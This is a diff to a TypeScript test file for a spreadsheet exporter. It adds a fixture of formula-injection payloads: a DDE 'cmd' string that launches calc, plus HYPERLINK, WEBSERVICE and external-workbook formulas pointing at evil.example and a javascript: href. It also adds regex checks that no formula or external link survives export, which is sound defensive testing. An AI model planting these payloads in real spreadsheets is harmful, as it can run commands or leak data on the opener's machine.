@@ -1,11 +1,11 @@
-import { read, utils, type WorkBook } from "@e965/xlsx";
+import { CFB, read, utils, type WorkBook } from "@e965/xlsx";
 import { getDocument } from "pdfjs-dist/legacy/build/pdf.mjs";
 import { describe, expect, test } from "vitest";
 import { LANGUAGES } from "~/i18n/languages";
 import { reportWords } from "~/i18n/report-words";
 import type { Compared } from "../table/compare-days";
 import type { TrackedKeywords } from "../table/tracked-keywords";
-import type { Column, ExportDocument, Section, TableSection } from "./document";
+import type { Cell, Column, ExportDocument, Section, TableSection } from "./document";
 import { EXPORT_FORMATS, type ExportFormat } from "./formats";
 import { positionTable } from "./report";
 import { bytesOf, HARD_ROWS, hardTable, testDocument, testTypefaces } from "./test-documents";
@@ -28,6 +28,21 @@ function serialOf(cell: unknown): unknown {
 	return cell instanceof Date ? Math.round((cell.getTime() - Date.UTC(1899, 11, 30)) / 86_400_000) : cell;
 }
 
+const DANGEROUS_ROWS: readonly (readonly Cell[])[] = [
+	'=HYPERLINK("https://evil.example";"x")',
+	"=cmd|' /C calc'!A0",
+	"='[https://evil.example/a.xlsx]Sheet1'!A1",
+	'=WEBSERVICE("https://evil.example")',
+].map((text) => ["example.com", text, "2026-11-21", 1, 1, { text, href: "javascript:alert(1)" }]);
+
+/** Text of each part of an archive, unpacked by a program that is not ours. */
+function partsOf(archive: Uint8Array): Record<string, string> {
+	const container = CFB.read(Buffer.from(archive), { type: "buffer" });
+	return Object.fromEntries(
+		container.FileIndex.map(({ content }, i) => [container.FullPaths[i] ?? "", Buffer.from(content ?? []).toString()]),
+	);
+}
+
 describe.each(["xlsx", "ods", "xls"] as const)("%s read by another program", (format) => {
 	test("S44 holds every value with its type, and no formula", async () => {
 		const book = read(await written(testDocument([hardTable()], { isPlain: true }), format), { cellFormula: true, cellDates: false });
@@ -42,6 +57,19 @@ describe.each(["xlsx", "ods", "xls"] as const)("%s read by another program", (fo
 		// Days are days, not texts: 2026-11-21 is day 46,347 of spreadsheet programs.
 		expect(serialOf(cells[1]?.[2])).toBe(46_347);
 		for (const [address, cell] of Object.entries(sheet)) if (!address.startsWith("!")) expect(cell.f).toBeUndefined();
+	});
+
+	test("S44 leads to no other document: no external link, no data connection, no formula in any part", async () => {
+		const book = await written(testDocument([hardTable([...HARD_ROWS, ...DANGEROUS_ROWS])], { isPlain: true }), format);
+		const parts = format === "xls" ? { book: Buffer.from(book).toString("latin1") } : partsOf(book);
+		expect(Object.keys(parts).filter((name) => /external|connection|query|hyperlink|object|macro/i.test(name))).toEqual([]);
+		const whole = Object.values(parts).join("\n");
+		expect(
+			whole.match(/TargetMode="External"|<f[ >]|<ddeLink|<externalReference|<hyperlink|<table:dde|<table:cell-range-source|table:formula/g),
+		).toBe(null);
+		const led = [...whole.matchAll(/xlink:href="([^"]*)"/g)].map(([, href]) => href);
+		// Only an address that is a link of its own, and only where the format has links of cells.
+		expect(led).toEqual(format === "ods" ? ["https://example.com/a?b=1&amp;c=2"] : []);
 	});
 
 	test("has a sheet for each section, named without forbidden letters, each name once", async () => {
